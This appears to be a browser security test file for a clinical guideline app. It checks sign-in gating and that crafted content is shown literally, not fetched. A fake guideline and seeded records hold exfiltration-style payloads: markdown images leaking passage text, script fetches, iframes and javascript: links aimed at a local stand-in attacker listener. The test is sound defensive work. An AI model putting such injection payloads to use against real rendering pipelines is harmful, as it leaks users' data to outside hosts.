"""The app attacked through a real browser (Debian chromium) on a freshly started server:
every page URL opened without signing in, and guideline, case and record text crafted to
make the browser fetch from elsewhere."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from test_browser import BROWSER_TESTS, browser_page, served, settle
from test_browser_viewer import EVIDENCE

pytestmark = BROWSER_TESTS

PASSWORD = "a long enough password"
# Every page of the app by its address, with the title it shows when it runs.
PAGE_URLS = {
    "": "Ask the guidelines",
    "ask": "Ask the guidelines",
    "saved": "Saved answers",
    "cases": "Tumour-board cases",
    "board": "Board view",
    "corpus": "Corpus",
    "validation": "Validation",
    "audit": "Audit trail",
}
# Buttons and inputs that act on data: none may exist for a visitor who has not signed in.
ACTIONS = (
    "Ask",
    "Save verified answer",
    "Re-index",
    "Export CSV",
    "Prepare export",
    "Create case",
    "Run question set",
    "Run evaluation",
    "Run counterfactual check",
    "Draft patient-friendly summary",
)
GUIDELINE = """---
id: antiemetic-hec-2024
title: "Antiemetic prophylaxis in adults"
publisher: Multinational Association of Supportive Care in Cancer
year: 2024
version: "2024 update"
source_url: https://example.org/antiemetics-2024
licence: "Test document written for OncoGuide's security tests."
status: current
---
# Antiemetic prophylaxis for highly emetogenic chemotherapy

## Recommendations
For cisplatin-based highly emetogenic chemotherapy (HEC), a four-drug combination of an NK1 \
receptor antagonist, a 5-HT3 receptor antagonist, dexamethasone and olanzapine is recommended \
on day 1 ![forest plot](http://127.0.0.1:LISTEN/md-image.png?leak=passage).

Olanzapine 5 mg may be preferred over 10 mg in older adults to limit sedation \
<img src="http://127.0.0.1:LISTEN/html-img.png?leak=passage"> (Table 2).

In the phase III trial, complete response in the overall phase was 73% with olanzapine versus \
45% with placebo (HR 0.45, 95% CI 0.33 to 0.61; P < 0.001) <http://127.0.0.1:LISTEN/autolink>.

Dexamethasone is continued on days 2 to 4 after HEC as set out in \
[the dosing table](javascript:fetch('http://127.0.0.1:LISTEN/js-link')) and at \
http://127.0.0.1:LISTEN/bare-url for the NK1 receptor antagonist schedule.

<script>fetch('http://127.0.0.1:LISTEN/script')</script>
<iframe src="http://127.0.0.1:LISTEN/iframe"></iframe>

## Breakthrough nausea
Breakthrough nausea despite olanzapine-based prophylaxis is treated with an agent of another \
class; see <a href="http://127.0.0.1:LISTEN/anchor">the algorithm</a>.
"""
PAYLOAD = "![forest plot](http://127.0.0.1:LISTEN/md-image.png?leak=passage)"


class Listener:
    """A local HTTP server standing in for an attacker's host: it records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def small_corpus(tmp_path: Path, monkeypatch, text: str) -> Path:
    """A corpus folder holding one guideline, indexed here so the server starts quickly."""
    from rag.assistant import Assistant
    from rag.config import load_settings

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "antiemetics.md").write_text(text, encoding="utf-8")
    monkeypatch.setenv("ONCOGUIDE_CORPUS_DIR", str(corpus))
    assistant = Assistant(load_settings())
    report = assistant.ingest([corpus])
    assert report.count("added") == 1, report
    assistant.close()
    return corpus


def seed_records(final_text: str, case_label: str, findings: str) -> None:
    """One case and one verified answer for it, as a clinician would have left them."""
    from rag.assistant import Assistant
    from rag.config import load_settings
    from rag.review.board import CaseInput
    from rag.review.store import RecordStore
    from rag.types import Review

    settings = load_settings()
    assistant = Assistant(settings)
    answer = assistant.evidence(assistant.retrieve("Which antiemetics are given with HEC?"))
    assistant.close()
    store = RecordStore(settings.records_db)
    case_id = store.create_case(
        CaseInput(case_label, "Lung cancer", "stage IIIA", findings, "Which antiemetics?"),
        "Dr Hidden",
    )
    store.save_verified(answer, Review(True, "Dr Hidden", final_text), case_id=case_id)


def visible_text(page) -> str:  # type: ignore[no-untyped-def]
    """What a person reads on the page (invisible word joiners removed)."""
    return page.locator("body").inner_text().replace("\u2060", "")


def test_no_page_opens_without_signing_in(oncoguide_home: Path, tmp_path: Path, monkeypatch):
    from playwright.sync_api import expect, sync_playwright

    from rag.review.access import UserDirectory

    small_corpus(tmp_path, monkeypatch, GUIDELINE.replace("LISTEN", "9"))
    seed_records("SECRETANSWER olanzapine on day 1 [1].", "Board 7 SECRETCASE", "T2N0M0")
    UserDirectory(oncoguide_home / "users.yaml").add(
        "rita", "Rita Reviewer", PASSWORD, ("reviewer",)
    )
    monkeypatch.setenv("ONCOGUIDE_SIGN_IN", "true")
    with served(tmp_path) as port, sync_playwright() as p:
        browser, _ = browser_page(p)
        problems = []
        for path, title in PAGE_URLS.items():
            context = browser.new_context(viewport={"width": 1400, "height": 1000})
            page = context.new_page()
            page.goto(f"http://127.0.0.1:{port}/{path}", timeout=120_000)
            username = page.get_by_role("textbox", name="Username")
            expect(username.or_(page.locator("h1"))).to_be_visible(timeout=180_000)
            settle(page)
            text = visible_text(page)
            shown = [s for s in (title, "SECRETANSWER", "SECRETCASE", "Dr Hidden") if s in text]
            if "Signed in as" in text:
                shown.append("a signed-in sidebar")
            if page.get_by_test_id("stSidebarNav").count():
                shown.append("the page list")
            if page.locator("input[type=file]").count():
                shown.append("a file upload")
            shown += [a for a in ACTIONS if page.get_by_role("button", name=a, exact=True).count()]
            if not username.is_visible():
                shown.append("no sign-in form")
            if shown:
                problems.append(f"/{path}: {shown}")
            context.close()
        assert not problems, "\n".join(problems)

        # Signing in opens the page asked for, with its data: the checks above could fail.
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{port}/saved", timeout=120_000)
        page.get_by_role("textbox", name="Username").fill("rita")
        page.get_by_role("textbox", name="Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text("Signed in as")).to_contain_text("Rita Reviewer", timeout=60_000)
        # while Streamlit reruns after sign-in, the old page's heading may stand beside the new
        # one for a moment: the first one shown is the page's
        expect(page.get_by_role("heading", name="Saved answers").first).to_be_visible(
            timeout=60_000
        )
        # The sign-in cookie is written by a component after the page shows; a page load
        # before that would start a new session (a race of the test, not of the app).
        page.wait_for_function(
            "document.cookie.includes('oncoguide_signin')", polling=500, timeout=60_000
        )
        # A reviewer may not open the corpus, not even by its address.
        page.goto(f"http://127.0.0.1:{port}/corpus", timeout=120_000)
        expect(page.get_by_text("Signed in as")).to_be_visible(timeout=60_000)
        settle(page)
        expect(page.locator("input[type=file]")).to_have_count(0)
        expect(page.get_by_role("button", name="Re-index")).to_have_count(0)

        # Someone else's sign-in opens nothing for the next visitor.
        fresh = browser.new_context().new_page()
        fresh.goto(f"http://127.0.0.1:{port}/audit", timeout=120_000)
        expect(fresh.get_by_role("textbox", name="Username")).to_be_visible(timeout=60_000)
        settle(fresh)
        assert "Audit trail" not in visible_text(fresh)
        browser.close()


def test_document_and_record_text_makes_the_browser_fetch_nothing(
    oncoguide_home: Path, tmp_path: Path, monkeypatch
) -> None:
    """Markdown images, links, raw HTML, autolinks and ``javascript:`` URLs in a guideline,
    a saved answer and a case are shown literally; the browser asks nothing of anyone."""
    from playwright.sync_api import expect, sync_playwright

    listener = Listener()
    base = f"http://127.0.0.1:{listener.port}"
    small_corpus(tmp_path, monkeypatch, GUIDELINE.replace("LISTEN", str(listener.port)))
    seed_records(
        f"Olanzapine on day 1 [1].\n\n![chart]({base}/record.png)\n\n<img src='{base}/rec.png'>",
        f"Board 3 ![x]({base}/label.png)",
        f"PS 1 <img src={base}/findings.png> [notes](javascript:alert(1)) <{base}/auto>",
    )
    payload = PAYLOAD.replace("LISTEN", str(listener.port))
    app_requests: list[str] = []
    try:
        with served(tmp_path) as port, sync_playwright() as p:
            origin = f"http://127.0.0.1:{port}/"
            browser, page = browser_page(p)
            page.on("request", lambda request: app_requests.append(request.url))
            page.goto(origin, timeout=120_000)
            expect(page.get_by_text("Ask the guidelines").first).to_be_visible(timeout=180_000)
            page.get_by_role("textbox", name="Question").fill(
                "Which antiemetics are recommended on day 1 of highly emetogenic chemotherapy?"
            )
            page.get_by_text(EVIDENCE).click()
            page.get_by_role("button", name="Ask").click()
            expect(page.get_by_text("Draft answer")).to_be_visible(timeout=180_000)
            settle(page)
            expect(page.locator("#source-1")).to_be_visible(timeout=120_000)
            assert payload in visible_text(page)  # shown literally, not as an image
            passage = page.locator("#source-1").inner_text().replace("\u2060", "")
            assert payload in passage, passage
            assert "<script>fetch(" in visible_text(page)  # another passage, as text
            assert listener.requests == [], "the Ask page made the browser fetch"
            for path, heading in (("saved", "Saved answers"), ("cases", "Tumour-board cases")):
                page.goto(origin + path, timeout=120_000)
                expect(page.get_by_role("heading", name=heading).first).to_be_visible(
                    timeout=60_000
                )
                settle(page)
            page.goto(origin + "board", timeout=120_000)
            expect(page.get_by_text("Open points")).to_be_visible(timeout=60_000)
            settle(page)
            text = visible_text(page)
            assert f"Board 3 ![x]({base}/label.png)" in text, text
            assert f"![chart]({base}/record.png)" in text, text
            assert f"<img src={base}/findings.png>" in text, text
            page.wait_for_timeout(1000)
            browser.close()
    finally:
        listener.close()
    assert listener.requests == []
    elsewhere = [
        url
        for url in app_requests
        if not url.startswith(("data:", "blob:", f"http://127.0.0.1:{port}/"))
    ]
    assert elsewhere == []
